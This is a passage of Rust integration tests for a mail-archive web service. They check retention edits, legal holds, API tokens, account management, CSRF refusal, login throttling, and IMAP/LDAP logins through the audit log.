    let locked = "[retention]\ndefault = \"2y\" # policy 7\nlocked = true\n\n\
                  [[retention.policy]]\nname = \"newsletters\"\nsender = [\"*@ext.example\"]\nkeep = \"3y\"\n";
    let r = change(locked, "policy 7");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["in_force"]["default"], "2y");
    assert_eq!(r.json()["in_force"]["locked"], true);
    // The file, read by Python: the new section, everything else as it was.
    let read = |key: &str| {
        crate::util::python(
            "import tomllib,sys,json\nc = tomllib.load(open(sys.argv[1], 'rb'))\nprint(json.dumps(c.get(sys.argv[2])))\n",
            &[file.to_str().unwrap(), key],
        )
    };
    let kept: Value = serde_json::from_str(&read("retention")).unwrap();
    assert_eq!(kept["default"], "2y");
    assert_eq!(kept["policy"][0]["keep"], "3y");
    let web: Value = serde_json::from_str(&read("web")).unwrap();
    assert!(web["listen"]
        .as_str()
        .unwrap()
        .ends_with(&format!(":{}", site.port)));
    assert!(std::fs::read_to_string(&file)
        .unwrap()
        .contains("default = \"2y\" # policy 7"));
    let dash = site.get(Some(&audit), "/dashboard").text();
    assert!(dash.contains("kept <strong>2y</strong>"), "{dash}");
    assert!(dash.contains("<td>newsletters</td>"), "{dash}");

    // Refused, the file unchanged: shorter than the locked one, lock taken
    // back, another section, a configuration that does not load, no reason.
    let before = std::fs::read_to_string(&file).unwrap();
    for (section, reason, why) in [
        (
            "[retention]\ndefault = \"1y\"\nlocked = true\n",
            "shorter",
            "locked",
        ),
        (
            "[retention]\ndefault = \"5y\"\n",
            "unlock",
            "cannot be taken back",
        ),
        ("[web]\nauth = [\"local\"]\n", "more", "only [retention]"),
        (
            "[retention]\ndefault = \"soon\"\nlocked = true\n",
            "bad",
            "soon",
        ),
        (locked, " ", "say why"),
    ] {
        let r = change(section, reason);
        assert_eq!(r.status, 400, "{section}: {}", r.text());
        assert!(r.text().contains(why), "{section}: {}", r.text());
        assert_eq!(std::fs::read_to_string(&file).unwrap(), before, "{section}");
    }
    assert_eq!(
        site.get(Some(&admin), "/api/retention").json()["in_force"]["default"],
        "2y"
    );

    // The page: the section in a form; a longer one posted from it.
    let page = site.get(Some(&admin), "/retention").text();
    assert!(
        page.contains("default = &quot;2y&quot; # policy 7"),
        "{page}"
    );
    assert!(page.contains("<strong>locked</strong>"), "{page}");
    let form = |csrf: &str, section: &str| {
        format!(
            "csrf={}&section={}&reason={}",
            encode(csrf),
            encode(section),
            encode("policy 8")
        )
    };
    let longer = locked.replace("\"2y\"", "\"4y\"");
    let r = site.post_form(Some(&admin), "/retention", &form("wrong", &longer));
    assert_eq!(r.status, 403);
    let r = site.post_form(Some(&admin), "/retention", &form(&admin.csrf, &longer));
    assert_eq!(r.status, 303, "{}", r.text());
    let kept: Value = serde_json::from_str(&read("retention")).unwrap();
    assert_eq!(kept["default"], "4y");
    let r = site.post_form(
        Some(&admin),
        "/retention",
        &form(
            &admin.csrf,
            "[retention]\ndefault = \"1d\"\nlocked = true\n",
        ),
    );
    assert_eq!(r.status, 400);
    assert!(r.text().contains("role=\"alert\""), "{}", r.text());
    assert!(
        r.text().contains("default = &quot;1d&quot;"),
        "the text sent, to mend: {}",
        r.text()
    );

    // The audit log: each change with its reason, the retention the
    // server then put in force, each refusal.
    serve.stop();
    let log = audit_lines(dir.path());
    let of =
        |action: &str| -> Vec<&Value> { log.iter().filter(|e| e["action"] == action).collect() };
    let changes = of("change_retention");
    // Two made; four refused by the server from the API, one from the
    // page; the one without a reason was refused before it was tried.
    assert_eq!(changes.len(), 2 + 4 + 1, "{changes:?}");
    assert!(
        changes
            .iter()
            .all(|e| e["user"] == "admin" && e["via"] == "web"),
        "{changes:?}"
    );
    assert_eq!(changes[0]["detail"]["reason"], "policy 7");
    assert_eq!(changes[0]["detail"]["section"], locked);
    let refused = of("refused_change_retention");
    assert_eq!(refused.len(), 4 + 1, "{refused:?}");
    assert!(refused[0]["detail"]["refused"]
        .as_str()
        .unwrap()
        .contains("locked"));
    let configs = of("retention_config");
    let defaults: Vec<&str> = configs
        .iter()
        .map(|e| e["detail"]["retention"]["default"].as_str().unwrap())
        .collect();
    assert_eq!(defaults, ["1y", "2y", "4y"], "{configs:?}");
}

#[test]
fn web_admins_place_and_release_legal_holds_auditors_see_them() {
    let dir = sandbox();
    let retention = "[retention]\ndefault = \"7y\"\n[[retention.policy]]\nname = \"newsletters\"\n\
                     sender = [\"*@ext.example\"]\nkeep = \"30d\"\n";
    let (mut serve, site) = start(dir.path(), retention);
    let [admin, audit, bob] = ["admin", "audit", "bob"].map(|u| site.login(u));
    let place = |who: &Login, name: &str, query: &str, reason: &str| {
        site.send_json(
            who,
            "POST",
            "/api/holds",
            serde_json::json!({"name": name, "query": query, "reason": reason}),
        )
    };
    let r = place(&admin, "case-7", "sender:bob@example.com", "litigation 7");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["deliveries"], 1);
    // Refused: the same name again, no reason, a query that does not parse.
    let r = place(&admin, "case-7", "quarterly", "again");
    assert_eq!(r.status, 400);
    assert!(r.text().contains("in force already"), "{}", r.text());
    assert_eq!(place(&admin, "case-8", "quarterly", " ").status, 400);
    assert_eq!(place(&admin, "case-8", "(", "why").status, 400);
    // Without the CSRF token: refused before anything.
    let r = reply(
        site.agent
            .post(format!("{}/api/holds", site.base))
            .header("cookie", &admin.cookie)
            .header("content-type", "application/json")
            .send(r#"{"name":"x","query":"a","reason":"b"}"#),
    );
    assert_eq!(r.status, 403);
    // The auditor sees it and what it covers; a user does not.
    let list = site.get(Some(&audit), "/api/holds").json();
    let holds = list["holds"].as_array().unwrap();
    assert_eq!(holds.len(), 1, "{list}");
    assert_eq!(holds[0]["name"], "case-7");
    assert_eq!(holds[0]["by"], "admin");
    assert_eq!(holds[0]["deliveries"], 1);
    assert_eq!(site.get(Some(&bob), "/api/holds").status, 404);
    assert_eq!(site.get(Some(&bob), "/holds").status, 404);
    let page = site.get(Some(&audit), "/holds").text();
    assert!(page.contains("<td>case-7</td>"), "{page}");
    assert!(
        !page.contains("Place a hold"),
        "an auditor gets no form: {page}"
    );
    // Beside the holds, the dashboard shows the retention they override.
    let dash = site.get(Some(&audit), "/dashboard").text();
    assert!(dash.contains("kept <strong>7y</strong>"), "{dash}");
    assert!(dash.contains("<td>newsletters</td>"), "{dash}");
    // The command line, reading the same log, sees the same hold.
    let cli = |args: &[&str]| {
        let out = crate::util::mailkeep(&dir.path().join("mailkeep.toml"))
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    let listed = cli(&["hold", "list", "--json"]);
    assert!(listed.contains(r#""name":"case-7""#), "{listed}");
    // The page: place one with the form, release both.
    let page = site.get(Some(&admin), "/holds").text();
    assert!(page.contains("Place a hold"), "{page}");
    let form = format!(
        "csrf={}&name={}&query={}&reason={}",
        encode(&admin.csrf),
        encode("case 8"),
        encode("subject:lunch"),
        encode("HR request")
    );
    let r = site.post_form(Some(&admin), "/holds", &form);
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(r.header("location"), "/holds");
    // The same again: the list with why, under the refusal's status.
    let r = site.post_form(Some(&admin), "/holds", &form);
    assert_eq!(r.status, 400);
    assert!(r.text().contains("in force already"), "{}", r.text());
    assert!(r.text().contains("<td>case 8</td>"), "{}", r.text());
    let r = site.post_form(Some(&admin), "/holds", "csrf=wrong&name=x&query=a&reason=b");
    assert_eq!(r.status, 403);
    let page = site.get(Some(&admin), "/holds").text();
    assert!(
        page.contains(r#"action="/holds/case%208/release""#),
        "{page}"
    );
    let r = site.post_form(
        Some(&admin),
        "/holds/case%208/release",
        &format!("csrf={}&reason=closed", encode(&admin.csrf)),
    );
    assert_eq!(r.status, 303, "{}", r.text());
    let release = |reason: &str| {
        site.send_json(
            &admin,
            "DELETE",
            "/api/holds/case-7",
            serde_json::json!({ "reason": reason }),
        )
    };
    assert_eq!(release("settled").status, 200);
    assert_eq!(release("twice").status, 400, "none in force any more");
    assert_eq!(cli(&["hold", "list", "--json"]), "");
    serve.stop();
    // The log has every change, by admin via the web; the store's anchor
    // is the log's last hold entry.
    let holds: Vec<(String, String, String)> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "hold" || e["action"] == "refused_hold")
        .map(|e| {
            assert_eq!(e["user"], "admin");
            assert_eq!(e["via"], "web");
            (
                e["action"].as_str().unwrap().to_string(),
                e["detail"]["op"].as_str().unwrap().to_string(),
                e["detail"]["name"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let h = |a: &str, op: &str, n: &str| (a.to_string(), op.to_string(), n.to_string());
    assert_eq!(
        holds,
        [
            h("hold", "add", "case-7"),
            h("refused_hold", "add", "case-7"),
            h("hold", "add", "case 8"),
            h("refused_hold", "add", "case 8"),
            h("hold", "release", "case 8"),
            h("hold", "release", "case-7"),
            h("refused_hold", "release", "case-7"),
        ]
    );
    let last_hold = audit_lines(dir.path())
        .into_iter()
        .rfind(|e| e["action"] == "hold")
        .unwrap();
    let anchor = crate::util::python(
        "import sqlite3, sys\n\
         c = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro', uri=True)\n\
         print(c.execute(\"SELECT value FROM meta WHERE key = 'audit_anchor'\").fetchone()[0])\n",
        &[dir.path().join("store/catalog.sqlite").to_str().unwrap()],
    );
    let seq = last_hold["seq"].as_u64().unwrap();
    assert_eq!(
        anchor.trim(),
        format!("{seq} {}", last_hold["hash"].as_str().unwrap()),
        "the store's anchor is the last change"
    );
    cli(&["verify"]);
}

#[test]
fn web_api_tokens_act_for_their_owner_as_they_are_now() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "");
    let [bob, alice] = ["bob", "alice"].map(|u| site.login(u));
    // No body on a GET: a server that leaves one unread closes the
    // connection, and the client's next request on it would fail.
    let with = |token: &str, method: &str, path: &str| {
        let url = format!("{}{path}", site.base);
        let auth = format!("Bearer {token}");
        match method {
            "GET" => reply(site.agent.get(url).header("authorization", &auth).call()),
            "POST" => reply(
                site.agent
                    .post(url)
                    .header("authorization", &auth)
                    .header("content-type", "application/json")
                    .send("{}"),
            ),
            m => panic!("{m}"),
        }
    };
    let r = site.send_json(
        &bob,
        "POST",
        "/api/tokens",
        serde_json::json!({"label": "nightly export", "days": 7}),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let made = r.json();
    let token = made["token"].as_str().unwrap().to_string();
    let id = made["id"].as_str().unwrap().to_string();
    assert!(token.starts_with("mkt_"), "{made}");
    // Without a cookie, it searches bob's mail and only his.
    let r = with(&token, "GET", "/api/search?q=");
    assert_eq!(r.status, 200, "{}", r.text());
    let ids: BTreeSet<i64> = r.json()["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, BTreeSet::from([1, 2]));
    assert_eq!(with(&token, "GET", "/api/messages/4").status, 404);
    assert_eq!(with(&token, "GET", "/api/messages/1/raw").status, 200);
    assert_eq!(with(&token, "GET", "/api/audit").status, 404);
    assert_eq!(with(&token, "GET", "/api/dashboard").status, 404);
    assert_eq!(
        with(
            &token,
            "GET",
            &format!("/api/search?q=&offset={}", u64::MAX)
        )
        .status,
        400,
        "a page too far"
    );
    // It makes no tokens and opens no pages; a wrong one is nothing.
    assert_eq!(with(&token, "POST", "/api/tokens").status, 400);
    assert_eq!(with(&token, "GET", "/api/tokens").status, 400);
    assert_eq!(
        with(&token, "GET", "/").status,
        303,
        "the page sends it to log in"
    );
    let mut wrong = token.clone();
    wrong.replace_range(token.len() - 4.., "0000");
    assert_eq!(with(&wrong, "GET", "/api/search?q=").status, 401);
    assert_eq!(with("mkt_", "GET", "/api/search?q=").status, 401);
    // Its owner lists it (never the secret); alice neither sees nor
    // revokes it.
    let list = site.get(Some(&bob), "/api/tokens").json();
    assert_eq!(list["tokens"][0]["id"], id.as_str());
    assert_eq!(list["tokens"][0]["label"], "nightly export");
    assert!(!list.to_string().contains(&token));
    assert_eq!(
        site.get(Some(&alice), "/api/tokens").json()["tokens"],
        serde_json::json!([])
    );
    let path = format!("/api/tokens/{id}");
    assert_eq!(site.delete(&alice, &path, Some(&alice.csrf)).status, 404);
    assert_eq!(with(&token, "GET", "/api/search?q=").status, 200);
    // The file keeps its hash only.
    let file = std::fs::read_to_string(dir.path().join("store/tokens.json")).unwrap();
    assert!(!file.contains(token.rsplit('_').next().unwrap()), "{file}");
    // Revoked: it stops.
    assert_eq!(site.delete(&bob, &path, Some(&bob.csrf)).status, 204);
    assert_eq!(with(&token, "GET", "/api/search?q=").status, 401);
    // A removed account's token stops too.
    let r = site.send_json(&bob, "POST", "/api/tokens", serde_json::json!({}));
    let second = r.json()["token"].as_str().unwrap().to_string();
    assert_eq!(with(&second, "GET", "/api/search?q=").status, 200);
    let out = crate::util::mailkeep(&dir.path().join("mailkeep.toml"))
        .args(["user", "remove", "bob"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(with(&second, "GET", "/api/search?q=").status, 401);
    // Made again under the same name and password: a new account, and the
    // old tokens stay dead.
    let pw = dir.path().join("pw");
    let out = crate::util::mailkeep(&dir.path().join("mailkeep.toml"))
        .args([
            "user",
            "add",
            "bob",
            "--role",
            "user",
            "--address",
            "bob@example.com",
            "--password-file",
        ])
        .arg(&pw)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(with(&second, "GET", "/api/search?q=").status, 401);
    // An admin's token reads what an admin reads, and changes nothing of
    // holds, accounts or tokens.
    let admin = site.login("admin");
    let r = site.send_json(&admin, "POST", "/api/tokens", serde_json::json!({}));
    let admin_token = r.json()["token"].as_str().unwrap().to_string();
    let admin_token_id = r.json()["id"].as_str().unwrap().to_string();
    assert_eq!(with(&admin_token, "GET", "/api/holds").status, 200);
    assert_eq!(with(&admin_token, "GET", "/api/dashboard").status, 200);
    let post = |path: &str, body: serde_json::Value| {
        reply(
            site.agent
                .post(format!("{}{path}", site.base))
                .header("authorization", format!("Bearer {admin_token}"))
                .header("content-type", "application/json")
                .send(body.to_string()),
        )
    };
    let hold = serde_json::json!({"name": "t", "query": "quarterly", "reason": "r"});
    let r = post("/api/holds", hold);
    assert_eq!(r.status, 400, "{}", r.text());
    assert!(r.text().contains("logged-in session"), "{}", r.text());
    let account =
        serde_json::json!({"name": "admin", "role": "admin", "password": "a new long password"});
    assert_eq!(post("/api/users", account).status, 400);
    assert_eq!(
        site.login_reply("admin", PASSWORD).status,
        200,
        "the password is unchanged"
    );
    assert_eq!(with(&admin_token, "GET", "/api/users").status, 400);
    let r = reply(
        site.agent
            .delete(format!("{}/api/tokens/{admin_token_id}", site.base))
            .header("authorization", format!("Bearer {admin_token}"))
            .call(),
    );
    assert_eq!(r.status, 400, "a token does not revoke tokens");
    assert_eq!(
        site.send_json(
            &alice,
            "POST",
            "/api/tokens",
            serde_json::json!({"days": 400})
        )
        .status,
        400
    );
    serve.stop();
    // Every use is in the audit log, marked as made with the token.
    let used: Vec<Value> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["via"] == "web-token")
        .collect();
    assert!(used.len() >= 4, "{used:?}");
    assert!(
        used.iter()
            .all(|e| e["user"] == "bob" || e["user"] == "admin"),
        "{used:?}"
    );
    assert!(
        used.iter()
            .any(|e| e["action"] == "search" && e["detail"]["token"] == id.as_str()),
        "{used:?}"
    );
    let made: Vec<Value> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "token_add" || e["action"] == "token_revoke")
        .collect();
    assert_eq!(
        made.len(),
        5,
        "three made (two of bob's, the admin's), two revocations asked (alice's not found): \
         {made:?}"
    );
}

#[test]
fn web_admins_manage_local_accounts_and_a_change_ends_their_sessions() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "");
    let admin = site.login("admin");
    let erin = serde_json::json!({
        "name": "erin", "role": "user", "addresses": ["erin@example.com"], "password": PASSWORD,
    });
    let r = site.send_json(&admin, "POST", "/api/users", erin.clone());
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(
        r.json()["addresses"],
        serde_json::json!(["erin@example.com"])
    );
    // Erin logs in and sees what her address received (a Bcc of message 1).
    let e = site.login("erin");
    assert_eq!(site.ids(&e, ""), BTreeSet::from([1]));
    // The command line reads the same file.
    let out = crate::util::mailkeep(&dir.path().join("mailkeep.toml"))
        .args(["user", "list", "--json"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains(r#""name":"erin""#));
    // Refused: a short password, a bad role, an address that is none,
    // demoting or removing oneself; nothing without the CSRF token.
    let mut bad = erin.clone();
    bad["password"] = "short".into();
    assert_eq!(
        site.send_json(&admin, "POST", "/api/users", bad).status,
        400
    );
    let mut bad = erin.clone();
    bad["role"] = "root".into();
    assert_eq!(
        site.send_json(&admin, "POST", "/api/users", bad).status,
        400
    );
    let mut bad = erin.clone();
    bad["addresses"] = serde_json::json!(["not an address"]);
    assert_eq!(
        site.send_json(&admin, "POST", "/api/users", bad).status,
        400
    );
    let me = serde_json::json!({"name": "admin", "role": "user", "password": PASSWORD});
    assert_eq!(site.send_json(&admin, "POST", "/api/users", me).status, 400);
    assert_eq!(
        site.delete(&admin, "/api/users/admin", Some(&admin.csrf))
            .status,
        400
    );
    assert_eq!(site.delete(&admin, "/api/users/erin", None).status, 403);
    assert_eq!(site.ids(&e, ""), BTreeSet::from([1]), "erin is still in");
    // Changing her account logs her out; her new role applies at login.
    let mut auditor = erin.clone();
    auditor["role"] = "auditor".into();
    assert_eq!(
        site.send_json(&admin, "POST", "/api/users", auditor).status,
        200
    );
    assert_eq!(site.get(Some(&e), "/api/search?q=").status, 401);
    let e = site.login("erin");
    assert_eq!(site.ids(&e, "").len(), 4, "an auditor now");
    // The page: the list, a form to add, a button to remove.
    let page = site.get(Some(&admin), "/users").text();
    assert!(page.contains("<td>erin</td><td>auditor</td>"), "{page}");
    assert!(page.contains(r#"action="/users/erin/remove""#), "{page}");
    assert!(page.contains("Logins are tried with: local."), "{page}");
    let form = format!(
        "csrf={}&name=frank&role=user&addresses={}&password={}",
        encode(&admin.csrf),
        encode("frank@example.com, f@example.com"),
        encode(PASSWORD)
    );
    let r = site.post_form(Some(&admin), "/users", &form);
    assert_eq!(r.status, 303, "{}", r.text());
    let frank = site.login("frank");
    assert_eq!(site.get(Some(&frank), "/api/search?q=").status, 200);
    // Removed on the command line, his session ends at its next request.
    let out = crate::util::mailkeep(&dir.path().join("mailkeep.toml"))
        .args(["user", "remove", "frank"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(site.get(Some(&frank), "/api/search?q=").status, 401);
    assert_eq!(site.get(Some(&frank), "/").status, 303, "to the login page");
    let r = site.post_form(
        Some(&admin),
        "/users/erin/remove",
        &format!("csrf={}", encode(&admin.csrf)),
    );
    assert_eq!(r.status, 303, "{}", r.text());
    assert_eq!(
        site.get(Some(&e), "/api/search?q=").status,
        401,
        "logged out"
    );
    assert_eq!(site.login_reply("erin", PASSWORD).status, 401);
    assert_eq!(
        site.delete(&admin, "/api/users/erin", Some(&admin.csrf))
            .status,
        404
    );
    serve.stop();
    // Every change is in the log, never a password.
    let log = std::fs::read_to_string(dir.path().join("store/audit.log")).unwrap();
    assert!(!log.contains(PASSWORD));
    let ops: Vec<String> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "user" && e["via"] == "web")
        .map(|e| {
            format!(
                "{} {}",
                e["detail"]["op"].as_str().unwrap(),
                e["detail"]["name"].as_str().unwrap_or("")
            )
        })
        .collect();
    assert!(ops.contains(&"add erin".to_string()), "{ops:?}");
    assert!(ops.contains(&"add frank".to_string()), "{ops:?}");
    assert_eq!(
        ops.iter().filter(|o| o.as_str() == "remove erin").count(),
        2,
        "the removal and the second attempt: {ops:?}"
    );
}

#[test]
fn web_csrf_logout_idle_expiry_and_throttled_logins() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "session_idle = 2\n");
    let bob = site.login("bob");
    // Logging out needs the session's token.
    assert_eq!(site.delete(&bob, "/api/session", None).status, 403);
    assert_eq!(
        site.delete(&bob, "/api/session", Some("0".repeat(64).as_str()))
            .status,
        403
    );
    assert_eq!(
        site.get(Some(&bob), "/api/session").status,
        200,
        "still logged in"
    );
    assert_eq!(
        site.delete(&bob, "/api/session", Some(&bob.csrf)).status,
        204
    );
    assert_eq!(
        site.get(Some(&bob), "/api/search?q=").status,
        401,
        "logged out"
    );
    // The page's logout form needs it as well.
    let carol = site.login("carol");
    let r = site.post_form(Some(&carol), "/logout", "csrf=wrong");
    assert_eq!(r.status, 403);
    let r = site.post_form(Some(&carol), "/logout", &format!("csrf={}", carol.csrf));
    assert_eq!(r.status, 303);
    assert_eq!(
        site.get(Some(&carol), "/").status,
        303,
        "back to the login page"
    );
    // A login form posted from another site is refused.
    let r = reply(
        site.agent
            .post(format!("{}/login", site.base))
            .header("content-type", "application/x-www-form-urlencoded")
            .header("origin", "https://evil.example")
            .send(format!("user=dave&password={}", encode(PASSWORD))),
    );
    assert_eq!(r.status, 403);
    // Idle for longer than session_idle: gone.
    let dave = site.login("dave");
    assert_eq!(site.get(Some(&dave), "/api/search?q=").status, 200);
    std::thread::sleep(std::time::Duration::from_millis(2500));
    assert_eq!(
        site.get(Some(&dave), "/api/search?q=").status,
        401,
        "idle session still open"
    );
    // Guessing: after five failures the right password is refused too, for
    // a while, with Retry-After; every failure is in the audit log.
    for _ in 0..5 {
        assert_eq!(site.login_reply("alice", "guess").status, 401);
    }
    let r = site.login_reply("alice", PASSWORD);
    assert_eq!(r.status, 429, "{}", r.text());
    assert!(r.header("retry-after").parse::<u64>().unwrap() >= 1);
    let failed = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "login_failed" && e["detail"]["user"] == "alice")
        .count();
    assert_eq!(failed, 5);
    assert!(
        !std::fs::read_to_string(dir.path().join("store").join("audit.log"))
            .unwrap()
            .contains("guess"),
        "a password in the audit log"
    );
    serve.stop();
}

#[test]
fn web_openapi_document_describes_exactly_the_api_routes() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "");
    let doc = site.get(None, "/api/openapi.json").json();
    let mut described = BTreeSet::new();
    for (path, ops) in doc["paths"].as_object().unwrap() {
        for method in ops.as_object().unwrap().keys() {
            described.insert((method.to_uppercase(), path.clone()));
        }
    }
    let routed: BTreeSet<(String, String)> = mailkeep_web::routes()
        .into_iter()
        .filter(|r| r.path.starts_with("/api/"))
        .map(|r| (r.method.to_string(), r.path.to_string()))
        .collect();
    assert_eq!(described, routed);
    // And the contract scripts rely on holds.
    let audit = site.login("audit");
    let r = site.get(Some(&audit), "/api/search?q=subject:lunch").json();
    let first = &r["results"][0];
    for key in ["id", "subject", "sender", "recipients", "login", "received"] {
        assert!(first.get(key).is_some(), "{key} missing: {first}");
    }
    serve.stop();
}

#[test]
fn web_login_through_a_real_dovecot_imap_server() {
    let dir = sandbox();
    // Dovecot's processes (dovecot, nobody) must reach their files.
    crate::util::set_mode(dir.path(), 0o755);
    let imap_port = crate::util::free_port();
    let dovecot = crate::postfix::Dovecot::start_imap(
        Path::new("/usr/sbin/dovecot"),
        &dir.path().join("dovecot"),
        imap_port,
        &[
            ("erin", "erin's \"imap\" pässword"),
            ("eve", "eve's password"),
        ],
    );
    let extra = format!(
        "auth = [\"local\", \"imap://127.0.0.1:{imap_port}\"]\ndefault_domain = \"example.com\"\nauditors = [\"eve\"]\n"
    );
    let (mut serve, site) = start(dir.path(), &extra);
    // erin has no local account: Dovecot says yes, her address comes from
    // the default domain, and she sees what she was a Bcc recipient of.
    let r = site.login_reply("erin", "erin's \"imap\" pässword");
    assert_eq!(r.status, 200, "{}\n{}", r.text(), dovecot.log());
    let cookie = r
        .header("set-cookie")
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let erin = Login {
        cookie,
        csrf: r.json()["csrf"].as_str().unwrap().to_string(),
    };
    assert_eq!(r.json()["addresses"][0], "erin@example.com");
    assert_eq!(site.ids(&erin, ""), BTreeSet::from([1]));
    let m = site.get(Some(&erin), "/api/messages/1").json();
    assert_eq!(
        m["recipients"],
        serde_json::json!(["carol@example.com", "erin@example.com"])
    );
    assert_eq!(site.login_reply("erin", "wrong").status, 401);
    // The configuration makes an IMAP user an auditor.
    let eve = site.login_reply("eve", "eve's password");
    assert_eq!(eve.json()["role"], "auditor");
    // Local accounts are tried first and still work.
    site.login("bob");
    let logins: Vec<Value> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "login")
        .collect();
    assert_eq!(logins[0]["user"], "erin");
    assert_eq!(logins[0]["detail"]["backend"], "imap");
    // With Dovecot gone, an IMAP user is told the service is unavailable
    // (503), not that the password is wrong.
    drop(dovecot);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let r = site.login_reply("erin", "erin's \"imap\" pässword");
    assert_eq!(r.status, 503, "{}", r.text());
    serve.stop();
}

/// Runs `tests/web/browser.py MODE` against `site` with `cfg`; its JSON.
fn browser(mode: &str, site: &Site, dir: &Path, cfg: &Value) -> Value {
    let cfg_path = dir.join(format!("browser-{mode}.json"));
    std::fs::write(&cfg_path, cfg.to_string()).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/web/browser.py");
    let out = std::process::Command::new("python3")
        .arg(&script)
        .arg(mode)
        .arg(&site.base)
        .arg(&cfg_path)
        .output()
        .expect("python3 with playwright (scripts/test installs it)");
    assert!(
        out.status.success(),
        "browser.py {mode} failed:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("browser.py prints JSON")
}

#[test]
fn web_in_a_real_browser_bob_through_dovecot_alice_through_slapd_and_the_auditor() {
    let dir = sandbox();
    crate::util::set_mode(dir.path(), 0o755);
    let imap_port = crate::util::free_port();
    let bob_password = "bob's imap password";
    let _dovecot = crate::postfix::Dovecot::start_imap(
        Path::new("/usr/sbin/dovecot"),
        &dir.path().join("dovecot"),
        imap_port,
        &[("bob", bob_password)],
    );
    let alice_password = "alice's ldap password";
    let slapd = Slapd::start(
        &dir.path().join("ldap"),
        &[("alice", alice_password, &["alice@example.com"])],
    );
    let extra = format!(
        "auth = [\"local\", \"imap://127.0.0.1:{imap_port}\", \"ldap://127.0.0.1:{}\"]\n\
         default_domain = \"example.com\"\n[web.ldap]\nbind_dn = \"uid={{user}},ou=people,dc=example,dc=com\"\n\
         [retention]\n# the records policy\ndefault = \"10y\"\n\n[[retention.policy]]\nname = \"newsletters\"\n\
         sender = [\"*@ext.example\"]\nkeep = \"90d\"\n",
        slapd.port
    );
    let (mut serve, site) = start(dir.path(), &extra);
    // bob and alice have no local account here: the IMAP server logs bob
    // in, the directory alice.
    for name in ["bob", "alice"] {
        let out = std::process::Command::new(bin())
            .arg("--config")
            .arg(dir.path().join("mailkeep.toml"))
            .args(["user", "remove", name])
            .output()
            .unwrap();
        assert!(out.status.success());
    }
    let cfg = serde_json::json!({
        "bob": {"user": "bob", "password": bob_password},
        "alice": {"user": "alice", "password": alice_password},
        "auditor": {"user": "audit", "password": PASSWORD},
        "admin": {"user": "admin", "password": PASSWORD},
        "bob_message": 1,
        "alice_message": 2,
    });
    let r = browser("journey", &site, dir.path(), &cfg);
    let rows = |k: &str| -> Vec<String> { serde_json::from_value(r[k].clone()).unwrap() };
    let bob_search = rows("bob_search");
    assert_eq!(bob_search.len(), 1, "{bob_search:?}");
    assert!(
        bob_search[0].contains("quarterly numbers") && bob_search[0].contains("ceo@example.com")
    );
    let envelope = r["bob_envelope"].as_str().unwrap();
    for want in [
        "bob@example.com",
        "dave@example.com (Bcc)",
        "erin@example.com (Bcc)",
        "carol@example.com",
        "4ABC1",
    ] {
        assert!(envelope.contains(want), "{want} not in {envelope}");
    }
    assert_eq!(r["bob_bcc_marks"], 2);
    assert_eq!(
        r["bob_marks"], 2,
        "the word in the subject and in the snippet"
    );
    let facets: Vec<String> = serde_json::from_value(r["bob_facets"].clone()).unwrap();
    assert!(
        facets.iter().any(|f| f == "example.com") && facets.iter().any(|f| f == "with"),
        "{facets:?}"
    );
    assert_eq!(r["dashboard_bars"], 30);
    // The admin's change through the form is in force and in the file.
    assert_eq!(r["retention_url"], format!("{}/retention", site.base));
    let after = r["retention_after"].as_str().unwrap();
    assert!(after.contains("kept 12y"), "{after}");
    let file = std::fs::read_to_string(dir.path().join("mailkeep.toml")).unwrap();
    assert!(
        file.contains("# the records policy\ndefault = \"12y\""),
        "{file}"
    );
    assert!(r["bob_html"]
        .as_str()
        .unwrap()
        .contains("The numbers are attached."));
    assert_eq!(r["download_name"], "numbersfdp.exe");
    assert_eq!(r["download_bytes"], "255044462d312e340a25e2e3cfd30a");
    let tabs: Vec<String> = serde_json::from_value(r["tab_order"].clone()).unwrap();
    assert!(
        tabs.iter().any(|t| t == "q") && tabs.iter().any(|t| t == "from"),
        "{tabs:?}"
    );
    assert!(
        r["narrow_overflow"].as_i64().unwrap() <= 0,
        "wider than 360 px: {}",
        r["narrow_overflow"]
    );
    assert!(r["narrow_message_overflow"].as_i64().unwrap() <= 0);
    let alice = rows("alice_rows");
    assert_eq!(alice.len(), 1, "{alice:?}");
    assert!(alice[0].contains("lunch") && !alice.iter().any(|x| x.contains("quarterly")));
    assert_eq!(r["alice_bob_message_status"], 404);
    assert_eq!(rows("auditor_rows").len(), 4);
    let audit_rows = rows("audit_rows");
    let views: Vec<&String> = audit_rows
        .iter()
        .filter(|row| row.contains("\taudit\t") && row.contains("\tshow\t"))
        .collect();
    assert!(
        views.iter().any(|v| v.contains("\"id\":\"1\""))
            && views.iter().any(|v| v.contains("\"id\":\"2\"")),
        "{audit_rows:#?}"
    );
    assert_eq!(r["foreign_requests"], serde_json::json!([]));
